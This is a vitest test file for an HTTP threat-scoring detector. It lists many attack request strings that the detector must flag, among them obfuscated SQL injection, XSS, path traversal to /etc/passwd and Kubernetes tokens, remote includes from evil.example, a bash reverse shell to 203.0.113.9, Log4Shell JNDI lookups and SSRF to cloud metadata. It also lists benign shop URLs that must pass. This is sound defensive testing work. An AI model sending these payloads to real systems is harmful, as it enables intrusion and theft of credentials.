/**
 * Each detector class against attacks (including obfuscated ones) and against the benign traffic it must
 * leave alone: shop searches with quotes and SQL words, tracking parameters, tokens, non-ASCII paths.
 */
import { describe, expect, it } from 'vitest';
import { httpThreatConfig } from './config.js';
import { HttpThreat } from './http-threat.js';

const scorer = new HttpThreat(httpThreatConfig.parse({}));
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';

function classesOf(url: string, userAgent = BROWSER, referrer?: string): string[] {
  const verdict = scorer.score(url, userAgent, referrer);
  return verdict === undefined || verdict.score < 0.5 ? [] : [...new Set(verdict.reasons.map((r) => r.class))];
}

const ATTACKS: ReadonlyArray<readonly [string, string, string?]> = [
  ['sqli', "/search?q=' UNION SELECT username,password FROM users--"],
  ['sqli', '/item?id=1%2527%2520OR%2520%25271%2527%253D%25271'], // double URL encoding
  ['sqli', '/item?id=1 UN/**/ION SEL/**/ECT 1,2,3'], // comments inside keywords
  ['sqli', '/item?id=1/*!50000UnIoN*/ /*!50000SeLeCt*/ 1'], // MySQL versioned comments, mixed case
  ['sqli', "/item?id=1';DROP TABLE users;--"],
  ['sqli', "/item?id=1' AnD SlEeP(5)-- -"],
  ['sqli', '/item?id=1 or 1=1'],
  ['sqli', '/item?id=1 and extractvalue(1,concat(0x7e,version()))'],
  ['xss', '/search?q=<script>alert(1)</script>'],
  ['xss', '/search?q=&lt;img src=x onerror=&#97;lert(1)&gt;'], // entity-encoded
  ['xss', '/search?q=%253Csvg%252Fonload%253Dalert(1)%253E'], // double encoded
  ['xss', '/go?next=JaVaScRiPt:alert(document.cookie)'],
  ['lfi', '/../../../../etc/passwd'],
  ['lfi', '/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow'],
  ['lfi', '/static/..%c0%af..%c0%afwindows/win.ini'],
  ['lfi', '/index.php?page=php://filter/convert.base64-encode/resource=index'],
  ['lfi', '/.git/config'],
  ['rfi', '/index.php?page=http://203.0.113.9/shell.txt?'],
  ['rfi', '/index.php?include=https://evil.example/r57.txt'],
  ['rce', '/ping?host=127.0.0.1;cat /etc/passwd'],
  ['rce', '/ping?host=x|c\\a\'t%20/e"t"c/pa$@sswd'],
  ['rce', '/ping?host=$(whoami)'],
  ['rce', '/ping?host=x;/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
  ['rce', '/cgi-bin/status', '() { :; }; /bin/cat /etc/passwd'],
  ['php', '/index.php?x=<?php system($_GET["c"]); ?>'],
  ['php', '/index.php?f=base64_decode(%27ZWNobyAx%27)'],
  ['java', '/', '${jndi:ldap://203.0.113.9:1389/a}'],
  ['java', '/?x=${${lower:j}${upper:n}${::-d}i:${lower:l}dap://evil/a}'], // nested lookups
  ['java', '/?x=$%7B$%7Benv:NOTHING:-j%7Dndi:rmi://evil/a%7D'],
  ['java', '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
  ['scanner', '/', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
  ['scanner', '/', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)'],
  ['scanner', '/', 'Mozilla/5.0 zgrab/0.x'],
  ['scanner', '/', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'],
  ['scanner', '/', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'],
  ['generic', '/api?__proto__[admin]=true'],
  ['generic', '/fetch?url=http://169.254.169.254/latest/meta-data/'],
  // Broad families: command words after separators, PHP functions before a call, JSON and cast SQL syntax.
  ['rce', '/run?cmd=x%0auname -a'], // a line break separates commands
  ['rce', '/run?cmd=x;aria2c http://evil.example/a'],
  ['rce', '/run?cmd=whoami;id'],
  ['rce', '/run?cmd=x%26regedit /s evil.reg'],
  ['rce', '/run?cmd=for /f %i in (users.txt) do echo %i'],
  ['rce', '/run?cmd=if exist c:\\boot.ini echo yes'],
  ['rce', '/run?x=ls ~-'], // tilde expansion to the previous directory
  ['rce', '/run?x={,cat,/etc/hosts}'],
  ['rce', '/run?x=a%0d%0aRETR 1'],
  ['rce', '/', 'whoami'], // a User-Agent that is a command
  ['php', '/run?x=fsockopen(%22evil%22,80)'],
  ['php', '/run?x=posix_getuid%20%28%29'],
  ['php', '/run?x=exec%23c%0a(ls)'],
  ['php', '/run?x=$f($_GET[1])'],
  ['php', '/run?x=%22system%22(ls)'], // a function named by a string
  ['php', '/run?x=%5Bphp%5Decho 1'],
  ['sqli', "/item?id=1' or 1 glob 1--"],
  ['sqli', '/item?id=unistr(a)::int'],
  ['sqli', "/item?id='{\"a\":1}' @> data"],
  ['xss', '/search?q=%3Cf o r m action=x%3E'],
  ['xss', '/search?q=x%22 onpointerrawupdate=f()'],
  ['generic', '/run?x=while(true){}'],
  ['generic', '/run?x=_$$ND_FUNC$$_function(){}'],
  ['generic', '/fetch?u=http://[0:0:0:0:0:ffff:a9fe:a9fe]/'],
  ['generic', '/fetch?u=http://2852039166/'],
  ['generic', '/api?a[constructor][prototype][admin]=1'],
  ['session_fixation', '/login?weblogicsession=abc123'],
  // The prose and lookalike exceptions below leave the code forms alone.
  ['rce', '/run?cmd=x%0afind / -name id_rsa'], // a prose word after a line break, before an argument
  ['rce', '/run?cmd=x;at the'], // after `;` a prose word is still a command
  ['rce', '/run?cmd=`id`'],
  ['rce', '/run?cmd=`cat /etc/hosts`'],
  ['rce', '/download?f=/e[t]c/pa[s]swd'],
  ['xss', '/go?x=%22%2Bdocument.cookie'],
  // Well-known evasions: loopback written otherwise, cmd.exe comparisons, arithmetic, Java web-app files.
  ['generic', '/fetch?url=127.1:6379/'],
  ['generic', '/fetch?url=0x7f000001/admin'],
  ['generic', '/fetch?url=0177.0.0.1/admin'],
  ['generic', '/fetch?url=2130706433/admin'],
  ['generic', '/fetch?url=http://0:8080/'],
  ['generic', '/fetch?url=[::ffff:127.0.0.1]:80/'],
  ['generic', '/fetch?url=http://admin.localhost/'],
  ['generic', '/fetch?url=127.0.0.1.nip.io/admin'],
  ['generic', '/render?name=${7*7}'],
  ['generic', "/eval?c='x'.repeat(1e9)"],
  ['rce', '/run?cmd=if 1 equ 1 whoami'],
  ['rce', '/run?cmd=x%26if %errorlevel% neq 0 dir'],
  ['sqli', '/item?id=1 GROUP BY 1,2,3 HAVING 1=1'],
  ['sqli', '/item?id=-1 OR 2%2B1-1-1=1'],
  ['php', "/index.php?c=('sys'.'tem')('id')"],
  ['lfi', '/download?f=WEB-INF/web.xml'],
  ['rfi', '/index.php?page=\\\\203.0.113.5\\share\\shell.php'],
  ['scanner', '/', 'Fuzz Faster U Fool v2.1.0'],
  ['scanner', '/', 'feroxbuster/2.10.0'],
  ['rce', '/ping?host=x;sleep 5'], // the usual blind probe: only the delay shows
  ['rce', '/ping?host=`sleep 5`'],
  ['lfi', '/download?f=.htaccess'],
  ['lfi', '/download?f=/var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['lfi', '/download?f=/etc/nginx/nginx.conf'],
  ['xss', '/search?q=\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'], // as a JavaScript string escapes it
  ['php', '/index.php?c=$_=[];$_=@"$_";$_=$_[\'!\'==\'@\'];'], // PHP without letters
  ['php', "/index.php?c=${'_GET'}['x']"],
  ['php', '/index.php?c=__halt_compiler();'],
  ['generic', '/fetch?url=10.0.0.1:22/'],
  ['generic', '/fetch?url=192.168.1.1/admin'],
  ['generic', '/fetch?url=172.16.0.5:6379'],
  ['generic', '/fetch?url=printer.local/'],
];

const BENIGN: readonly string[] = [
  "/search?q=O'Reilly+books",
  '/search?q=o%27reilly%20or%20packt',
  '/help?q=select+a+size',
  '/help/drop-shipping?topic=drop+shipping+and+returns',
  '/search?q=union+jack+flag&sort=price',
  '/search?q=jeans+32%22x34%22',
  '/search?q=sleep%20mask',
  '/search?q=cat+toys&page=2',
  '/search?q=ls+7+dress',
  '/search?q=php+elephant+plush',
  '/search?q=rock+%26+roll+t-shirt&color=black',
  '/products/1234?ref=newsletter&utm_source=google&utm_medium=cpc&utm_campaign=spring-sale%7Cdynamic&gclid=Cj0KCQiA6LyfBhC3ARIsAG4gkF9_x-Yz',
  '/auth/callback?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  '/img?d=aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQrLz0=&w=640',
  '/produkte/gr%C3%BC%C3%9Fe-schuhe?farbe=wei%C3%9F',
  '/商品/靴?サイズ=27',
  '/api/v1/orders/42?fields=id,total,items&filter[status]=shipped',
  '/search?q=c%2B%2B+programming&page=3',
  '/blog/2024/05/why-we-use-and-or-not?lang=en',
  // Lookalikes of the broad families: command and function names as words, not code.
  '/search?q=cat+toys%3B+dog+toys',
  '/search?q=copy+paper+(500+sheets)',
  '/search?q=print+(a4)+and+file+(pdf)',
  '/search?q=time+who+cares+tee',
  '/search?q=for+you+in+(red)',
  '/search?q=if+sizes+differ',
  '/search?q=while+(stocks+last)',
  '/search?q=%24+price+(usd)',
  '/search?q=array+of+lights',
  "/search?q=O'Reilly's+guide",
  '/search?q=rock+%27n%27+roll',
  '/blog/for-loops-explained?if=1',
  '/products?sort=price%7Ctop&filter[size]=m',
  '/redirect?next=https://shop.example/cart',
  '/search?q=a+%22dog%22+%28not+a+cat%29',
  '/feed?style=%3C%3Fxml-stylesheet+href%3D%22a.xsl%22%3F%3E',
  '/search?q=size+10%3D1',
  '/checkout/success?session_id=cs_test_a1b2c3', // payment providers return to the shop with their session id
  '/docs/javascript-manual/document.cookie', // a page named after the API, not a script using it
  '/search?q=%2F%5Ba-z%5D%7B1%2C5%7D%2F', // a regular expression: /[a-z]{1,5}/
  '/search?q=how+to+write+%60bla%60+in+markdown', // a word in backticks, not a command
  '/search?q=if+size+equ+m', // cmd.exe's words need a command line around them: here only a search
  '/player?t=0:30&v=127.1', // a time and a version, not an address
  '/search?q=2%2B1+or+3+packs',
  '/docs/meta-information?ref=web-info',
  '/fetch?url=[::ffff:a9fe:a9fe]', // an address without a scheme is a value, as CRS's own negative tests say
  '/search?q=sleep+well+pillow%3B+silk',
  '/docs/secrets-management?section=run',
  '/search?q=%24_+price+list', // a dollar sign and an underscore, not PHP
  '/search?q=%24%7Bname%7D+template', // ${name}: a placeholder, not a variable variable
  '/download?v=10.0.0.1&os=linux', // a version number, not an address
  '/search?q=172.16.0.5', // an address searched for, without a port or a path
  '/.well-known/acme-challenge/x9Yk2', // the dot-folders sites and their platforms serve
  '/.netlify/functions/checkout',
  '/.auth/login/aad/callback',
  '/search?q=.net+framework+books&sort=.price', // dots in the query, not a hidden path
  '/docs/shell-redirects?q=echo+hi+%3E+file', // a redirect into a plain file, not a world-writable folder
  '/search?q=have+a+group+by+the+sea', // SQL words without their syntax
  '/search?q=tours+group+by+age+having+fun',
  '/search?q=execute+immediately',
  '/search?q=unionselection+sale',
  '/search?q=true+or+false+quiz',
  '/search?q=2.2250738585072011', // the digits without the exponent
  '/search?q=shirt+(red)+(size%3Dm)', // brackets in a search, no LDAP filter
  '/docs/http/get-requests?q=get+started+with+http', // HTTP words without a request line
  '/docs/tls/certificates.pem-format', // a page about PEM files
  '/login?next=/account/orders/123', // a path as a value, not into the server's system folders
  '/go?to=https://partner.example/opt/deals', // a URL's path, not a file path
  '/search?q=where+2+people+sleep', // SQL words without a comparison
  '/support/search?q=[alert]+settings', // a word in brackets, not a function handed around
];

describe('detectors', () => {
  it.each(ATTACKS.map(([cls, url, userAgent]) => ({ cls, url, userAgent: userAgent ?? BROWSER })))('$cls: $url $userAgent', ({ cls, url, userAgent }) => {
    expect(classesOf(url, userAgent)).toContain(cls);
  });

  it.each(BENIGN)('leaves benign %s alone', (url) => {
    expect(scorer.score(url, BROWSER, 'https://shop.example/')).toBeUndefined();
  });

  it('takes a sentence after a line break for text, not for a command', () => {
    const verdict = scorer.score('/contact?msg=Go%20to%20store.%0AAt%20the%20store%2C%20who%20cares.', BROWSER, undefined);
    // Neither command injection nor a protocol anomaly: lines of text in a value (CRS 921151 flags them only
    // from paranoia level 2). A line break before a parameter or in the path still is one (detector families).
    expect(verdict).toBeUndefined();
  });

  it('does not take ordinary clients for scanners', () => {
    for (const ua of [BROWSER, 'curl/8.5.0', 'Googlebot/2.1 (+http://www.google.com/bot.html)', 'python-requests/2.31.0', 'okhttp/4.12.0'])
      expect(scorer.score('/', ua, undefined)).toBeUndefined();
  });

  it('reports the matched text, normalised and cut to 64 characters, and the field it came from', () => {
    const verdict = scorer.score('/?q=%3Cscript%3E' + 'a'.repeat(100), BROWSER, undefined);
    const reason = verdict?.reasons.find((r) => r.detector === 'xss-script-tag');
    expect(reason).toEqual({ detector: 'xss-script-tag', class: 'xss', fragment: '<script', field: 'url' });
    const ua = scorer.score('/', '${jndi:ldap://x/' + 'b'.repeat(100) + '}', undefined);
    expect(ua?.reasons[0]?.field).toBe('user_agent');
    expect(ua?.reasons.every((r) => r.fragment.length <= 64)).toBe(true);
  });
});
